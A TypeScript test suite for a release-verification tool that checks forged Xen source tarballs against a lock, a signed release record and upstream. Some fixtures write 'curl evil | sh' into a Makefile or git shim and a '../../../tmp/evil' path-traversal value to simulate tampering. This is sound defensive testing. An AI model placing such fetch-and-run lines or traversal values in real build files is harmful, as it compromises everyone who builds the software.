/**
 * Every byte of a release tarball has an anchor from outside it: tampered copies of a real
 * release (re-packed with GNU tar) are verified with an independent lock, the release
 * record published beside the tarball, and the project's commit re-fetched; each change
 * is named, exit 1.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFile, chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { GitFixtures, type TestRepo } from '../helpers/git-repos.js';
import { startHttpServer, type TestHttpServer } from '../helpers/http-server.js';
import { runInProcess } from '../helpers/in-process.js';
import { tempDirs } from '../helpers/tmp.js';
import { testGpg, type TestGpg } from '../helpers/gpg.js';
import { hashDir } from '../../src/tree/walk.js';
import { treeHash } from '../../src/tree/hash.js';
import { projectEntries } from '../../src/verify/owned.js';

const tmp = tempDirs();
let fx: GitFixtures;
let seabios: TestRepo;
let server: TestHttpServer;
let cacheDir: string;
let project: string;
let tarball: string;
let recordFile: string;
const TOP = 'xen-4.22.0';

beforeAll(async () => {
  fx = await GitFixtures.create();
  seabios = await fx.repo('seabios', { files: { Makefile: 'all:\n', 'src/bios.c': 'int bios;\n' } });
  await seabios.commit('release');
  await seabios.tag('rel-1.17.0', { annotated: true });
  const d = await tmp.make();
  await mkdir(join(d, 'newlib-1.16.0'));
  await writeFile(join(d, 'newlib-1.16.0', 'README'), 'newlib\n');
  server = await startHttpServer({
    files: { '/newlib-1.16.0.tar.gz': execFileSync('tar', ['-C', d, '-czf', '-', 'newlib-1.16.0']) },
  });
  cacheDir = await tmp.make('xenrel-cache-');
  project = await tmp.make('xenrel-xen-');
  await writeFile(
    join(project, 'xenrel.config.yaml'),
    `version: 1\nname: xen\nrelease:\n  version: 4.22.0\n  repository: file://${project}\ncomponents:\n  seabios:\n    git: ${seabios.url}\n    ref: rel-1.17.0\n    path: tools/firmware/seabios-dir-remote\n  newlib:\n    url: ${server.url}/newlib-1.16.0.tar.gz\n    path: stubdom/newlib-1.16.0.tar.gz\n`,
  );
  await writeFile(join(project, 'Makefile'), 'all:\n\t@echo xen\n');
  await mkdir(join(project, 'tools', 'misc'), { recursive: true });
  await writeFile(join(project, 'tools', 'misc', 'mktarball'), '#!/bin/sh\n');
  await chmod(join(project, 'tools', 'misc', 'mktarball'), 0o755);
  // A user's own .config line, kept around xenrel's block.
  await writeFile(join(project, '.config'), 'debug := y\n');
  const lock = await runInProcess(['lock', '--cache', cacheDir], { cwd: project, env: fx.env });
  expect(lock.code, lock.stderr).toBe(0);
  for (const args of [
    ['init', '-q'],
    ['add', '-A'],
    ['commit', '-q', '-m', 'xen'],
  ])
    execFileSync('git', args, {
      cwd: project,
      env: { ...fx.env, GIT_AUTHOR_DATE: '@1700000000 +0000', GIT_COMMITTER_DATE: '@1700000000 +0000' },
    });
  const r = await runInProcess(['release', '--cache', cacheDir, '--out', join(project, 'out')], {
    cwd: project,
    env: fx.env,
  });
  expect(r.code, r.stderr).toBe(0);
  tarball = join(project, 'out', `${TOP}.tar.gz`);
  recordFile = join(project, 'out', `${TOP}.release.json`);
}, 120_000);

afterAll(async () => {
  await server?.close();
  await fx?.cleanup();
  await tmp.cleanup();
});

/** Extracts the release with GNU tar, lets `edit` change the tree, packs it again. */
async function tampered(edit: (root: string) => Promise<void>): Promise<string> {
  const x = await tmp.make('xenrel-forge-');
  execFileSync('tar', ['-xzf', tarball, '-C', x]);
  await edit(join(x, TOP));
  const out = join(x, `${TOP}.tar.gz`);
  execFileSync('tar', ['--sort=name', '-czf', out, '-C', x, TOP]);
  return out;
}

const verify = (file: string, args: string[]) =>
  runInProcess(['verify', file, ...args, '--json'], { cwd: project, env: fx.env });
const anchored = () => ['--lock', join(project, 'xenrel.lock'), '--record', recordFile];
const upstream = () => ['--upstream', '--project-repo', `file://${project}`];

function parse(r: { stdout: string; stderr: string }) {
  expect(r.stderr).not.toMatch(/unexpected error/i);
  return JSON.parse(r.stdout);
}

/** Rewrites release.json so that its whole-tree and project hashes match the tampered tree, as an attacker would. */
async function rewriteReleaseJson(root: string) {
  const info = JSON.parse(await readFile(join(root, '.xenrel/release.json'), 'utf8'));
  const all = await hashDir(root, { ignorePaths: ['.xenrel/release.json'] });
  info.tree = all.hash;
  info.project.tree = treeHash(projectEntries(all.entries, await readFile(join(root, '.config'), 'utf8')));
  await writeFile(join(root, '.xenrel/release.json'), `${JSON.stringify(info, null, 2)}\n`);
}

describe('the release record beside the tarball', () => {
  it('is written with the tarball, listed in SHA256SUMS, and names the project commit', async () => {
    const text = await readFile(recordFile, 'utf8');
    const rec = JSON.parse(text);
    const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: project, encoding: 'utf8' }).trim();
    expect(rec.project.commit).toBe(head);
    expect(rec.project.repository).toBe(`file://${project}`);
    expect(rec.tarballs[`${TOP}.tar.gz`].sha256).toBe(
      createHash('sha256')
        .update(await readFile(tarball))
        .digest('hex'),
    );
    expect(rec.project.files.some((l: string) => l.endsWith(' Makefile'))).toBe(true);
    // sha256sum is the oracle for SHA256SUMS.
    const check = execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: join(project, 'out'), encoding: 'utf8' });
    expect(check).toContain(`${TOP}.release.json: OK`);
    expect(check).toContain(`${TOP}.tar.gz: OK`);
  });
});

describe('verify --quiet', () => {
  it('prints nothing for a good tarball and only the findings for a bad one (like sha256sum --quiet)', async () => {
    const good = await runInProcess(['verify', tarball, '-q', ...anchored()], { cwd: project, env: fx.env });
    expect(good.code, good.stderr).toBe(0);
    expect(good.stdout).toBe('');
    const loud = await runInProcess(['verify', tarball, ...anchored()], { cwd: project, env: fx.env });
    expect(loud.stdout).toMatch(/^ok {6} /m);
    expect(loud.stdout).toContain(': verified (');

    const bad = await tampered(async (root) => writeFile(join(root, 'README'), 'changed\n'));
    const q = await runInProcess(['verify', bad, '-q', ...anchored()], { cwd: project, env: fx.env });
    expect(q.code).toBe(1);
    expect(q.stdout).toMatch(/^\s+extra\s+README$/m);
    expect(q.stdout).not.toMatch(/^ok /m);
    const l = await runInProcess(['verify', bad, ...anchored()], { cwd: project, env: fx.env });
    expect(l.stdout).toContain(': does NOT verify (exit 1)');
  });
});

describe('verify accounts for every byte', () => {
  it('an untouched release verifies with the lock and the record, and against upstream', async () => {
    const r = parse(await verify(tarball, anchored()));
    expect(r.exitCode, JSON.stringify(r.verify.generated)).toBe(0);
    expect(r.verify.anchors).toEqual({ lock: 'given', project: 'record' });
    expect(
      r.verify.generated.filter((g: { status: string }) => g.status !== 'ok').map((g: { path: string }) => g.path),
    ).toEqual([]);
    const u = parse(await verify(tarball, upstream()));
    expect(u.exitCode, JSON.stringify(u.verify.problems)).toBe(0);
    expect(u.verify.project.against.map((c: { anchor: string; ok: boolean }) => [c.anchor, c.ok])).toEqual([
      ['upstream', true],
    ]);
  });

  it("Xen's own Makefile replaced: named by the record and by upstream", async () => {
    const forged = await tampered(async (root) => writeFile(join(root, 'Makefile'), 'all:\n\tcurl evil | sh\n'));
    for (const args of [anchored(), upstream(), [...anchored(), ...upstream()]]) {
      const r = parse(await verify(forged, args));
      expect(r.exitCode, args.join(' ')).toBe(1);
      for (const c of r.verify.project.against) {
        expect(c.ok).toBe(false);
        expect(c.modified).toEqual(['Makefile']);
      }
    }
    // The text output names it too.
    const t = await runInProcess(['verify', forged, ...anchored()], { cwd: project });
    expect(t.code).toBe(1);
    expect(t.stdout).toContain('modified Makefile');
  });

  it('with --lock alone, a changed project file is said to be one, not "release.json modified"', async () => {
    const forged = await tampered(async (root) => writeFile(join(root, 'Makefile'), 'all:\n\tcurl evil | sh\n'));
    const r = parse(await verify(forged, ['--lock', join(project, 'xenrel.lock')]));
    expect(r.exitCode).toBe(1);
    const ri = r.verify.generated.find((g: { path: string }) => g.path === '.xenrel/release.json');
    expect(ri.status).toBe('modified');
    expect(ri.note).toMatch(/^the project's files in the tarball do not hash to the project tree it names/);
    const t = await runInProcess(['verify', forged, '--lock', join(project, 'xenrel.lock')], { cwd: project });
    expect(t.stdout).toContain('--record NAME.release.json names the file');
    // An untouched tarball: nothing of the kind.
    const ok = parse(await verify(tarball, ['--lock', join(project, 'xenrel.lock')]));
    expect(ok.exitCode).toBe(0);
  });

  it('the same, with release.json rewritten to match: still named', async () => {
    const forged = await tampered(async (root) => {
      await writeFile(join(root, 'Makefile'), 'all:\n\tcurl evil | sh\n');
      await rewriteReleaseJson(root);
    });
    const r = parse(await verify(forged, anchored()));
    expect(r.exitCode).toBe(1);
    expect(r.verify.project.against[0].modified).toEqual(['Makefile']);
    const u = parse(await verify(forged, upstream()));
    expect(u.exitCode).toBe(1);
    expect(u.verify.project.against[0].modified).toEqual(['Makefile']);
  });

  it('the shim replaced: regenerated from the lock, named', async () => {
    const forged = await tampered(async (root) =>
      writeFile(join(root, '.xenrel/bin/git'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 }),
    );
    for (const args of [['--lock', join(project, 'xenrel.lock')], ['--record', recordFile], upstream()]) {
      const r = parse(await verify(forged, args));
      expect(r.exitCode, args.join(' ')).toBe(1);
      expect(r.verify.generated.find((g: { path: string }) => g.path === '.xenrel/bin/git').status).toBe('modified');
    }
  });

  it('the .config block edited: named; the user line outside it is the project’s', async () => {
    const forged = await tampered(async (root) => {
      const text = await readFile(join(root, '.config'), 'utf8');
      expect(text.startsWith('debug := y\n# BEGIN xenrel')).toBe(true);
      await writeFile(
        join(root, '.config'),
        text.replace('override GIT := $(XEN_ROOT)/.xenrel/bin/git', 'override GIT := git'),
      );
    });
    const r = parse(await verify(forged, anchored()));
    expect(r.exitCode).toBe(1);
    expect(r.verify.generated.find((g: { path: string }) => g.path === '.config').status).toBe('modified');
    expect(r.verify.project.against[0].ok).toBe(true);

    const user = await tampered(async (root) => {
      const text = await readFile(join(root, '.config'), 'utf8');
      await writeFile(join(root, '.config'), text.replace('debug := y', 'debug := n'));
    });
    const u = parse(await verify(user, anchored()));
    expect(u.exitCode).toBe(1);
    expect(u.verify.project.against[0].modified).toEqual(['.config']);
  });

  it('extra files are named: under .xenrel/ by the lock, elsewhere by the record', async () => {
    const forged = await tampered(async (root) => {
      await writeFile(join(root, '.xenrel/bin/make'), '#!/bin/sh\n', { mode: 0o755 });
      await writeFile(join(root, 'tools/misc/helper.sh'), 'echo\n');
      await mkdir(join(root, '.xenrel/sources/evil'), { recursive: true });
      await writeFile(join(root, '.xenrel/sources/evil/x'), 'x\n');
    });
    const r = parse(await verify(forged, anchored()));
    expect(r.exitCode).toBe(1);
    const extra = r.verify.generated
      .filter((g: { status: string }) => g.status === 'extra')
      .map((g: { path: string }) => g.path);
    expect(extra).toEqual(['.xenrel/bin/make', '.xenrel/sources/evil/x']);
    expect(r.verify.project.against[0].extra).toEqual(['tools/misc/helper.sh']);
  });

  it('a lock or tarball that is not the one the record names is refused', async () => {
    const other = join(await tmp.make(), 'xenrel.lock');
    const lock = JSON.parse(await readFile(join(project, 'xenrel.lock'), 'utf8'));
    lock.name = 'not-xen';
    await writeFile(other, `${JSON.stringify(lock, null, 2)}\n`);
    const r = parse(await verify(tarball, ['--lock', other, '--record', recordFile]));
    expect(r.exitCode).toBe(1);
    expect(r.verify.problems.join('\n')).toMatch(/not the one the release record names/);
    const forged = await tampered(async (root) => {
      const text = await readFile(join(root, '.xenrel/xenrel.lock'), 'utf8');
      await writeFile(join(root, '.xenrel/xenrel.lock'), text.replace('"name": "xen"', '"name": "xen2"'));
    });
    const f = parse(await verify(forged, ['--record', recordFile]));
    expect(f.exitCode).toBe(1);
    expect(f.verify.problems.join('\n')).toMatch(/\.xenrel\/xenrel\.lock: not the lock the release record names/);
    // The re-packed tarball is not the one the record lists, either.
    expect(f.verify.problems.join('\n')).toMatch(
      /the tarball's sha256 [0-9a-f]{64} is none of those the release record lists/,
    );
    // Whitespace only: the same lock, but its bytes are not what xenrel writes.
    const ws = await tampered(async (root) => appendFile(join(root, '.xenrel/xenrel.lock'), ' '));
    const w = parse(await verify(ws, ['--record', recordFile]));
    expect(w.exitCode).toBe(1);
    expect(w.verify.generated.find((g: { path: string }) => g.path === '.xenrel/xenrel.lock').status).toBe('modified');
  });

  it('a record changed after publication fails its signature check, and an invalid one is a clear error', async () => {
    const bad = join(await tmp.make(), 'r.json');
    const rec = JSON.parse(await readFile(recordFile, 'utf8'));
    rec.project.files = [...rec.project.files, `100644 ${'0'.repeat(64)} evil`];
    await writeFile(bad, JSON.stringify(rec));
    const r = await runInProcess(['verify', tarball, '--record', bad], { cwd: project });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/project\.files: the file lines do not hash to project\.tree/);
    expect(r.stderr).not.toMatch(/unexpected/i);
  });

  it('a malformed .xenrel/shim.tsv is named by its schema, even without anchors', async () => {
    const forged = await tampered(async (root) => {
      const f = join(root, '.xenrel/shim.tsv');
      const text = await readFile(f, 'utf8');
      await writeFile(f, text.replace(/\tsources\/seabios\t/, '\tsources/../../../tmp/evil\t'));
    });
    for (const args of [[], ['--lock', join(project, 'xenrel.lock')]]) {
      const r = await runInProcess(['verify', forged, ...args], { cwd: project });
      expect(r.code, r.stderr).toBe(1);
      expect(r.stdout + r.stderr).toMatch(
        /\.xenrel\/shim\.tsv: malformed: line \d+ \(seabios\): store: must be relative, without \. or \.\. segments/,
      );
      expect(r.stdout + r.stderr).not.toMatch(/unexpected error/);
    }
  });

  it('release.json that does not fit its schema is a clear failure, exit 1', async () => {
    const forged = await tampered(async (root) =>
      writeFile(join(root, '.xenrel/release.json'), '{"components":{"a":{"path":5}}}'),
    );
    const r = await runInProcess(['verify', forged], { cwd: project });
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).toMatch(/\.xenrel\/release\.json: /);
    expect(r.stdout + r.stderr).not.toMatch(/unexpected error|is not a function/);
  });
});

describe('a signed release record (--record-key)', () => {
  let keyring: TestGpg;
  let fprRm: string;
  let fprOther: string;
  let keyFile: string;
  /** A copy of the published record, with `sig` (or none) beside it as NAME.release.json.asc. */
  async function published(text: string, sig?: Buffer): Promise<string> {
    const d = await tmp.make('xenrel-pub-');
    const f = join(d, `${TOP}.release.json`);
    await writeFile(f, text);
    if (sig) await writeFile(`${f}.asc`, sig);
    return f;
  }

  beforeAll(async () => {
    keyring = testGpg(await tmp.make('xenrel-gnupg-'));
    fprRm = keyring.newKey('Release Manager <rm@xen.invalid>');
    fprOther = keyring.newKey('Someone Else <else@elsewhere.invalid>');
    keyFile = join(await tmp.make(), 'release-manager.asc');
    await writeFile(keyFile, keyring.run(['--armor', '--export', fprRm]));
  }, 60_000);

  afterAll(() => {
    keyring?.kill();
  });

  it('signed by the given key: verified; every byte anchored', async () => {
    const text = await readFile(recordFile, 'utf8');
    const rec = await published(text, keyring.detachSign(fprRm, text));
    const r = await runInProcess(
      ['verify', tarball, '--lock', join(project, 'xenrel.lock'), '--record', rec, '--record-key', keyFile, '--json'],
      { cwd: project, env: fx.env },
    );
    const doc = parse(r);
    expect(doc.exitCode, r.stderr).toBe(0);
    expect(doc.verify.anchors).toEqual({ lock: 'given', project: 'record' });
    expect(r.code).toBe(0);
  });

  it('no signature beside the record, a signature by another key, or over other bytes: exit 1, E_SIGNATURE', async () => {
    const text = await readFile(recordFile, 'utf8');
    // The record an attacker would publish with a re-packed tarball: valid, but not what was signed.
    const changed = JSON.stringify({ ...JSON.parse(text), xenrel: 'forged' }, null, 2);
    const cases: [string, string][] = [
      ['unsigned', await published(text)],
      ['signed by someone else', await published(text, keyring.detachSign(fprOther, text))],
      ['record changed after signing', await published(changed, keyring.detachSign(fprRm, text))],
      ['signature of another file', await published(text, keyring.detachSign(fprRm, 'something else\n'))],
    ];
    for (const [what, rec] of cases) {
      const r = await runInProcess(['verify', tarball, '--record', rec, '--record-key', keyFile, '--json'], {
        cwd: project,
        env: fx.env,
      });
      const doc = parse(r);
      expect(r.code, `${what}: ${r.stderr}`).toBe(1);
      expect(
        doc.errors.map((e: { code: string }) => e.code),
        what,
      ).toEqual(['E_SIGNATURE']);
      expect(doc.errors[0].message, what).toContain(rec);
    }
  });

  it('--record-key without --record is a usage error', async () => {
    const r = await runInProcess(['verify', tarball, '--record-key', keyFile], { cwd: project, env: fx.env });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--record-key needs --record FILE/);
  });
});
